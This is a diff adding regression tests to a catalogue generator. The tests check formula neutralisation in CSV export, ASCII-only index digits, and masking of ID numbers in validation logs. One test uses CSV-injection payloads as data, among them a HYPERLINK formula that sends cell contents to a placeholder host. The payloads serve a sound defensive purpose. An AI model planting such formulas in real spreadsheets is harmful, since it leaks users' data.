@@ -3,8 +3,10 @@ is named after the finding it closes, and fails on the code the review attacked.
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import hmac
+import io
 import os
 import pickle
 import re
@@ -15,7 +17,7 @@ from pathlib import Path
 import pytest
 import yaml
 from click.testing import CliRunner
-from conftest import BUILD_DAY, REPO, Repo, copy_sample, line_of
+from conftest import BUILD_DAY, ORG, REPO, Repo, copy_sample, line_of
 from sitetext import files_of
 
 from generator.build import BuildContext, BuildRefused, build_catalogue
@@ -317,3 +319,64 @@ def test_validation_hangs_or_crashes_on_pathological_input_limits_are_generous(
     (repo.root / "content/external/budget/files/q2.csv").write_text("a,b\n", encoding="utf-8")
     result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
     assert "F009" not in result.output and "F010" not in result.output, result.output
+
+
+# ---------------------------------------------------------------- finding 8
+def test_catalogue_csv_neutralises_formulas(repo: Repo) -> None:
+    """A title such as ``=HYPERLINK(…)`` was written raw: Excel ran it as a formula.
+    Every text cell that starts like one gets a leading ``'`` (OWASP), and only those."""
+    formulas = {
+        "title": '=HYPERLINK("https://example.invalid/?"&A1,"详情")',
+        "summary": "@SUM(1+1)",
+        "doc_no": "-2+3",
+        "keywords": ["+cmd", "预算"],
+    }
+    quoted = {
+        k: [f"'{w}'" for w in v] if isinstance(v, list) else f"'{v}'" for k, v in formulas.items()
+    }
+    repo.add_item(**quoted)  # YAML single quotes: "@" cannot start a plain value
+    build_catalogue(BuildContext(repo.root, repo.root / "build", BUILD_DAY))
+    raw = (repo.root / "build/public/catalogue.csv").read_bytes().decode("utf-8-sig")
+    header, row = list(csv.reader(io.StringIO(raw)))
+    cells = dict(zip(header, row, strict=True))
+    neutral = [cell for cell in row if cell.startswith("'")]
+    assert "'" + formulas["title"] in neutral
+    assert "'" + formulas["summary"] in neutral
+    assert "'" + formulas["doc_no"] in neutral
+    assert "'+cmd；预算" in neutral
+    assert len(neutral) == 4  # the others (index number, dates, URL) are untouched
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells.values())
+
+
+@pytest.mark.parametrize("number", ["２０２４-０００１２", "2024-０００１２", "٢٠٢٤-00012"])
+def test_index_numbers_are_ascii_digits_only(repo: Repo, number: str) -> None:
+    """``２０２５-０００３１`` (full-width) was accepted beside ``2025-00031``."""
+    path = repo.write_item(index_no=f"{ORG}/{number}")
+    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
+    assert f"2024-q2.md:{line_of(path, 'index_no:')}: I301" in result.output
+
+
+ID = "11010519491231002X"  # GB 11643's own example
+
+
+@pytest.mark.parametrize(
+    ("code", "field", "value"),
+    [
+        ("I301", "index_no", ID),
+        ("S104", "published", ID),
+        ("S101", f"身份证{ID}", "x"),
+        ("I301", "index_no", "13812345678"),
+    ],
+)
+def test_problem_messages_mask_personal_numbers(
+    repo: Repo, code: str, field: str, value: str
+) -> None:
+    """S101/S104/S107/I301 quote what staff wrote: an ID number typed into a field was
+    printed whole in CI logs. It is masked as the confidentiality messages mask it."""
+    path = repo.write_item(**{field: value})
+    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
+    line = next(x for x in result.output.splitlines() if f": {code} " in x)
+    assert line.startswith(f"content/external/budget/2024-q2.md:{line_of(path, field)}: ")
+    secret = ID[:17] if ID in field + value else value
+    assert secret not in result.output
+    assert "****" in line
